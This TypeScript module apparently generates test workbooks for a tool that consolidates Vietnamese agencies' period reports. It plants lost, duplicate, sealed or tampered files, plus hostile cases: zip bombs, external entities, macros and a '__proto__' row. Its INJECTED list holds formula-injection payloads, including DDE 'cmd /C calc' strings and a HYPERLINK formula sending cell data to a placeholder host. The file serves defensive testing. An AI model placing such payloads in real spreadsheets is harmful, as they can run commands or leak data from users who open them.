import { bindWorkbook } from '../../entries/boundWorkbook';
import type { Agency } from '../../agency/catalogue';
import { findAgency } from '../../agency/membership';
import { isByName, isCommittee, reportingAgencies } from '../../agency/levels';
import { editParts } from '../../host/file/ooxml/patch/editParts';
import { createFileHost } from '../../host/file/fileHost';
import { readXlsx } from '../../host/file/ooxml/read/readWorkbook';
import { writeXlsx } from '../../host/file/ooxml/write/writeWorkbook';
import { sha256 } from '../../host/shared/sha256';
import { periodsOf, type ReportingPeriod } from '../../period/reportingPeriod';
import type { Programme } from '../../programmes/programme';
import { DEFECTS } from '../../validation/rules/defectList';
import { expectation, type Expectation } from '../../sample/expectation';
import {
  plantConflicts,
  type PlantedDiscrepancy,
  type PlantedGap,
  type Reporter,
} from '../../sample/plantConflicts';
import type { Random } from '../../sample/random';
import { addDays, toSerial, type IsoDate } from '../../text/calendar';
import { sealChanges } from '../../validation/seal/seal';
import { cellAddress } from '../../workbook/address';
import { workbookFileName } from '../../workbook/agency/agencyWorkbook';
import type { AgencyEntries } from '../../fields/entry';
import type { WorkbookSpec } from '../../workbook/spec';
import * as hostile from './hostileFiles';
import { leads, leadsOnCondition, planFacts } from '../../sample/sampleAgencies';
import { earlierPeriod, sampleYear, type SampleYear } from '../../sample/sampleYear';

/** Ways to lose an agency's workbook: none of its files counts. */
const LOST = [
  { fate: 'missing', share: 0.06, reason: null },
  { fate: 'truncated', share: 0.015, reason: 'host.damaged' },
  { fate: 'zip-bomb', share: 0.01, reason: 'host.suspicious' },
  { fate: 'external-entity', share: 0.01, reason: 'host.suspicious' },
  { fate: 'password', share: 0.01, reason: 'host.encrypted' },
  { fate: 'text', share: 0.01, reason: 'host.isText' },
  { fate: 'identity-lost', share: 0.01, reason: 'identity-guessed' },
  { fate: 'other-plan', share: 0.01, reason: 'other-plan' },
  { fate: 'other-period', share: 0.015, reason: 'other-period' },
  { fate: 'other-layout', share: 0.005, reason: 'other-layout' },
  { fate: 'agency-unknown', share: 0.005, reason: 'agency-unknown' },
] as const;
/** Cases where one of its files counts. */
const KEPT = [
  { fate: 'older-and-sealed', share: 0.02 },
  { fate: 'sealed-and-newer', share: 0.01 },
  { fate: 'both-sealed', share: 0.01 },
  { fate: 'copy', share: 0.01 },
  { fate: 'changed-after-seal', share: 0.015 },
  { fate: 'unsealed', share: 0.06 },
  { fate: 'macros', share: 0.01 },
  { fate: 'formula-injection', share: 0.01 },
  { fate: 'prototype', share: 0.005 },
  { fate: 'external-links', share: 0.01 },
] as const;
type Lost = (typeof LOST)[number];
export type Fate = Lost['fate'] | (typeof KEPT)[number]['fate'] | 'sealed';

/** At most this share of the agencies that can be lost, so that enough are left to disagree. */
const MOST_LOST = 1 / 3;
const SHARE_LATE = 0.12;

/** Texts a spreadsheet program would evaluate if they arrived as anything but text. */
const INJECTED = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Xem chi tiết")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+84 204 3854 000',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
];

export interface ConflictFile {
  file: string;
  bytes: Uint8Array;
  agency: Agency;
  /** File date. */
  modifiedOn: IsoDate;
  fate: Fate;
  /** Date of the mark "sẵn sàng gửi", and whether it is still intact. */
  sealedOn: IsoDate | null;
  sealState: 'none' | 'intact' | 'changed';
  /** Why its rows do not count; null if they do. */
  rejected: string | null;
}

export interface ConflictManifest {
  register: {
    agencyId: string;
    agency: string;
    file: string | null;
    sentOn: IsoDate | null;
    late: boolean;
    sealState: ConflictFile['sealState'] | null;
  }[];
  rejected: { file: string; reason: string }[];
  decisions: { kind: string; files: string[]; chosen: string | null }[];
  discrepancies: PlantedDiscrepancy[];
  gaps: PlantedGap[];
  /** Texts that must arrive unchanged. */
  injected: { agencyId: string; code: string; column: 'note'; text: string }[];
  sums: Expectation;
}

export interface ConflictSampleInput {
  programme: Programme;
  period: ReportingPeriod;
  seed: number;
  agencies: number;
  onFile: (file: ConflictFile) => void;
  /** Receives the agencies' workbooks of an earlier period, if the year has one. */
  onEarlier: (file: string, bytes: Uint8Array) => void;
}

function shuffled<T>(list: readonly T[], random: Random): T[] {
  const left = [...list];
  return list.map(() => left.splice(random.whole(0, left.length - 1), 1)[0] as T);
}

const LEADERS_KEPT = 2;

/**
 * Agencies that lead most rows, or are the only ones able to disagree on a figure, are kept: without them there is
 * little to compare.
 */
function kept({ plan, catalogue }: Programme, year: SampleYear): Set<string> {
  const led = (agency: Agency): number => year.rowsOf(agency).tasks.filter(leads).length;
  const leaders = [...year.agencies].sort((a, b) => led(b) - led(a)).slice(0, LEADERS_KEPT);
  const owners = plan.targets
    .filter(({ agreesAcross }) => agreesAcross !== null)
    .flatMap((target) => target.owners.flatMap((owner) => findAgency(owner, catalogue) ?? []));
  return new Set([...leaders, ...owners].map(({ id }) => id));
}

function fates(agencies: readonly Agency[], keeps: ReadonlySet<string>, random: Random): Map<string, Fate> {
  const all = new Map<string, Fate>(agencies.map(({ id }) => [id, 'sealed']));
  const hand = <F extends Fate>(to: Agency[], list: readonly { fate: F; share: number }[], most: number) => {
    let handed = 0;
    for (const { fate, share } of list)
      for (
        let count = Math.max(1, Math.round(agencies.length * share));
        count > 0 && handed < most;
        count--
      ) {
        const agency = to.pop();
        if (agency) all.set(agency.id, fate);
        handed += 1;
      }
  };
  const losable = agencies.filter(({ id }) => !keeps.has(id));
  const order = shuffled(losable, random);
  hand(order, LOST, Math.floor(losable.length * MOST_LOST));
  hand(order, KEPT, order.length);
  return all;
}

/** The workbook marked as ready; the counts in the mark are irrelevant here. */
async function sealed(bytes: Uint8Array, on: IsoDate, by: string): Promise<Uint8Array> {
  const host = createFileHost(bytes);
  const counts = { error: 0, warning: 0, hint: 0 };
  const changes = await sealChanges(bindWorkbook(await readXlsx(bytes)), { on, by, counts }, sha256);
  if (!changes) throw new Error('a sample has no place for its seal');
  await host.apply(changes);
  return host.bytes();
}

/** The first row of the workbook's first table, and the column with a given header. */
function firstCell(spec: WorkbookSpec, header: string): { sheet: string; cell: string } {
  for (const { name, rows } of spec.sheets) {
    const column = rows[2]?.findIndex((cell) => cell?.value === header) ?? -1;
    if (column >= 0) return { sheet: name, cell: cellAddress(3, column) };
  }
  throw new Error(`no column ${header}`);
}

function changeText(spec: WorkbookSpec, code: string): void {
  for (const { rows } of spec.sheets) {
    const column = rows[2]?.findIndex((cell) => cell?.value === 'Thời gian') ?? -1;
    const row = rows.find((cells, index) => index > 2 && cells[0]?.value === code);
    const cell = row?.[column];
    if (!row || !cell) continue;
    row[column] = { ...cell, value: 'Khi có điều kiện' };
    return;
  }
  throw new Error(`${code} is in no sheet`);
}

/** A row whose code is the name of a property inherited by every object. */
function addPrototypeRow(spec: WorkbookSpec): void {
  const sheet = spec.sheets.find(({ tables }) => tables.length > 0);
  const copy = sheet?.rows[sheet.rows.length - 1]?.map((cell) => cell && { ...cell });
  const table = sheet?.tables[0];
  if (!sheet || !copy || !table) return;
  copy[0] = { ...copy[0], value: '__proto__' };
  sheet.rows.push(copy);
  table.range = table.range.replace(/(?<!\d)\d+$/, (bottom) => String(Number(bottom) + 1));
}

function damage(spec: WorkbookSpec, rule: string, random: Random, programme: Programme): void {
  const defect = DEFECTS.find((each) => each.kind === 'damage' && each.rule === rule);
  if (defect?.kind !== 'damage' || !defect.damage(spec, random, planFacts(programme)))
    throw new Error(`${rule} cannot be planted`);
}

/** An earlier state of the same entries: half of the work not reported yet. */
function earlierState(entries: AgencyEntries): AgencyEntries {
  const copy = structuredClone(entries);
  Object.keys(copy.tasks).forEach((code, index) => {
    if (index % 2 === 0) copy.tasks[code] = {};
  });
  return copy;
}

interface Made extends Pick<ConflictFile, 'file' | 'bytes' | 'modifiedOn' | 'sealedOn' | 'sealState'> {
  counts: boolean;
}

/** The files of one agency, and how the one that counts is to be distinguished. */
async function filesOf(
  agency: Agency,
  fate: Fate,
  entries: AgencyEntries,
  changed: readonly string[],
  { programme, period, seed }: ConflictSampleInput,
  { year, random }: { year: SampleYear; random: Random },
): Promise<{ files: Made[]; decision: string | null }> {
  if (fate === 'missing') return { files: [], decision: null };
  const name = workbookFileName(programme.plan, period, agency);
  const second = name.replace('.xlsx', ' (1).xlsx');
  const by = String(entries.preparedBy);
  const isLate = random.chance(SHARE_LATE);
  const sentOn = addDays(period.sendBy, isLate ? random.whole(1, 10) : -random.whole(0, 5));
  // Saving an attachment changes its date: the seal is better evidence.
  const savedOn = random.chance(0.3) ? addDays(sentOn, random.whole(1, 9)) : sentOn;
  const build = (of: AgencyEntries) => {
    const spec = year.specOf(agency, of);
    for (const code of changed) changeText(spec, code);
    return spec;
  };
  const spec = build(entries);
  const plain = (file: string, bytes: Uint8Array, counts: boolean): Made => ({
    file,
    bytes,
    modifiedOn: sentOn,
    sealedOn: null,
    sealState: 'none',
    counts,
  });
  const marked = async (file: string, bytes: Uint8Array, counts: boolean, on = sentOn): Promise<Made> => ({
    file,
    bytes: await sealed(bytes, on, by),
    modifiedOn: on === sentOn ? savedOn : on,
    sealedOn: on,
    sealState: 'intact',
    counts,
  });
  const only = (made: Made, decision: string | null = null) => ({ files: [made], decision });
  const otherwise = async (change: (bytes: Uint8Array) => Uint8Array) => {
    const made = await marked(name, await writeXlsx(spec), true);
    return only({ ...made, bytes: change(made.bytes) });
  };
  const lost = async (bytes: Uint8Array | Promise<Uint8Array>, kind: string) =>
    only(plain(name, await bytes, false), kind);
  const identity = (rule: string) => {
    damage(spec, `identity/${rule}`, random, programme);
    return writeXlsx(spec);
  };
  const before = addDays(sentOn, -4);
  switch (fate) {
    case 'truncated':
      return lost(hostile.truncated(await writeXlsx(spec)), 'unread');
    case 'zip-bomb':
      return lost(hostile.bomb(await writeXlsx(spec)), 'unread');
    case 'external-entity':
      return lost(hostile.externalEntity(await writeXlsx(spec)), 'unread');
    case 'password':
      return lost(hostile.encrypted(), 'unread');
    case 'text':
      return lost(hostile.plainText(), 'unread');
    case 'identity-lost':
      return lost(identity('not-ours'), 'identity-guessed');
    case 'other-plan':
    case 'other-layout':
    case 'agency-unknown':
      return lost(identity(fate), fate);
    case 'other-period': {
      const elsewhere = periodsOf(programme).find(({ id }) => id !== period.id) ?? period;
      const other = sampleYear(programme, elsewhere, seed, year.agencies.length);
      return lost(writeXlsx(other.specOf(agency, other.entriesOf(agency, random))), fate);
    }
    case 'older-and-sealed': {
      const old = {
        ...plain(name, await writeXlsx(build(earlierState(entries))), false),
        modifiedOn: before,
      };
      return { files: [old, await marked(second, await writeXlsx(spec), true)], decision: 'several-files' };
    }
    case 'sealed-and-newer': {
      const late = plain(second, await writeXlsx(build(earlierState(entries))), false);
      return {
        files: [await marked(name, await writeXlsx(spec), true), { ...late, modifiedOn: addDays(sentOn, 2) }],
        decision: 'several-files',
      };
    }
    case 'both-sealed':
      return {
        files: [
          await marked(name, await writeXlsx(build(earlierState(entries))), false, before),
          await marked(second, await writeXlsx(spec), true),
        ],
        decision: 'several-files',
      };
    case 'copy': {
      const made = await marked(name, await writeXlsx(spec), true);
      // Of two identical files the later name counts ("." sorts after " "); no decision is needed.
      return { files: [made, { ...made, file: second, counts: false }], decision: null };
    }
    case 'changed-after-seal': {
      const made = await marked(name, await writeXlsx(spec), true);
      const host = createFileHost(made.bytes);
      await host.apply([{ ...firstCell(spec, 'Khó khăn, ghi chú'), value: 'Sửa sau khi đã kiểm tra.' }]);
      return only(
        { ...made, bytes: await host.bytes(), modifiedOn: savedOn, sealState: 'changed' },
        'changed-after-seal',
      );
    }
    case 'unsealed':
      return only(plain(name, await writeXlsx(spec), true));
    case 'macros': {
      const { files } = await otherwise(hostile.withMacros);
      return {
        files: files.map((made) => ({ ...made, file: name.replace('.xlsx', '.xlsm') })),
        decision: null,
      };
    }
    case 'prototype':
      addPrototypeRow(spec);
      return otherwise(hostile.withPrototypeProperty);
    case 'external-links': {
      const links = DEFECTS.find(({ rule }) => rule === 'structure/external-links');
      return otherwise((bytes) =>
        links?.kind === 'file' ? editParts(bytes, links.edit, links.parts) : bytes,
      );
    }
    case 'sealed':
    case 'formula-injection':
      return only(await marked(name, await writeXlsx(spec), true));
    default:
      return fate satisfies never;
  }
}

/** Formulas as text in the notes of the agency's first rows. */
function inject(agencyId: string, entries: AgencyEntries): ConflictManifest['injected'] {
  return Object.keys(entries.tasks)
    .slice(0, INJECTED.length)
    .map((code, index) => {
      const text = INJECTED[index] ?? '';
      entries.tasks[code] = { ...entries.tasks[code], note: text };
      return { agencyId, code, column: 'note', text };
    });
}

/**
 * What Sở Nội vụ receives at the end of a period: most workbooks sealed and on time, and among them every kind of
 * problem the consolidation must report. The manifest is derived from what was planted, not from the consolidation.
 */
export async function conflictSamples(input: ConflictSampleInput): Promise<ConflictManifest> {
  const { programme, period, seed } = input;
  const { plan, catalogue } = programme;
  const year = sampleYear(programme, period, seed, input.agencies);
  const earlier = earlierPeriod(period, programme);
  const random = year.randomOf(-1);
  const fateOf = fates(year.agencies, kept(programme, year), random);
  const isLost = (agency: Agency) => LOST.some(({ fate }) => fate === fateOf.get(agency.id));

  const entered = new Map(
    year.agencies.map((agency, index) => [agency.id, year.entriesOf(agency, year.randomOf(index))]),
  );
  const entriesOf = ({ id }: Agency) => entered.get(id) as AgencyEntries;
  // Before any damage: the earlier figures were correct.
  const before = new Map(year.agencies.map((agency) => [agency.id, structuredClone(entriesOf(agency))]));
  const reporters = year.agencies
    .filter((agency) => !isLost(agency))
    .map((agency): Reporter => ({
      id: agency.id,
      input: year.inputOf(agency),
      isCommittee: isCommittee(catalogue, agency),
      entries: entriesOf(agency),
    }));
  const { discrepancies, gaps } = plantConflicts({
    random,
    reporters,
    soleLead: new Map([...year.soleLead].map(([code, { id }]) => [code, id])),
    reportingDate: toSerial(period.end),
    hasEarlier: earlier !== null,
  });
  const injected = year.agencies.flatMap((agency) =>
    fateOf.get(agency.id) === 'formula-injection' ? inject(agency.id, entriesOf(agency)) : [],
  );

  const decisions: ConflictManifest['decisions'] = [];
  const rejected: ConflictManifest['rejected'] = [];
  const counted = new Map<string, Made>();
  for (const [index, agency] of year.agencies.entries()) {
    const fate = fateOf.get(agency.id) ?? 'sealed';
    const changed = discrepancies
      .filter((each) => each.kind === 'changed-text' && each.agency === agency.id)
      .map(({ code }) => code);
    const own = year.randomOf(index + 1_000_000);
    const { files, decision } = await filesOf(agency, fate, entriesOf(agency), changed, input, {
      year,
      random: own,
    });
    const reason = LOST.find((lost) => lost.fate === fate)?.reason ?? 'superseded';
    for (const { counts, ...made } of files) {
      input.onFile({ ...made, agency, fate, rejected: counts ? null : reason });
      if (counts) counted.set(agency.id, { ...made, counts });
      else rejected.push({ file: made.file, reason });
    }
    if (decision !== null)
      decisions.push({
        kind: decision,
        files: files.map(({ file }) => file).sort(),
        chosen: counted.get(agency.id)?.file ?? null,
      });
    if (earlier && !isLost(agency)) {
      const spec = year.earlierSpecOf(agency, before.get(agency.id) ?? entriesOf(agency), earlier);
      input.onEarlier(workbookFileName(plan, earlier, agency), await writeXlsx(spec));
    }
  }

  const inSample = new Set(year.agencies.map(({ id }) => id));
  const owing = [
    ...reportingAgencies(catalogue, period),
    ...year.agencies.filter((agency) => isByName(catalogue, agency)),
  ];
  return {
    register: owing.map(({ id, name }) => {
      const made = counted.get(id);
      const sentOn = made ? (made.sealState === 'intact' && made.sealedOn) || made.modifiedOn : null;
      return {
        agencyId: id,
        agency: name,
        file: made?.file ?? null,
        sentOn,
        // A file date alone makes nobody late.
        late: made?.sealState === 'intact' && sentOn !== null && sentOn > period.sendBy,
        sealState: made?.sealState ?? null,
      };
    }),
    rejected,
    decisions,
    discrepancies,
    gaps,
    injected,
    sums: expectation(
      owing.map((agency) => ({
        id: agency.id,
        ...year.rowsOf(agency),
        leads,
        leadsOnCondition,
        entries: inSample.has(agency.id) && !isLost(agency) ? entriesOf(agency) : null,
      })),
      { rows: year.order, targets: plan.targets.map(({ code }) => code) },
      toSerial(period.end),
    ),
  };
}
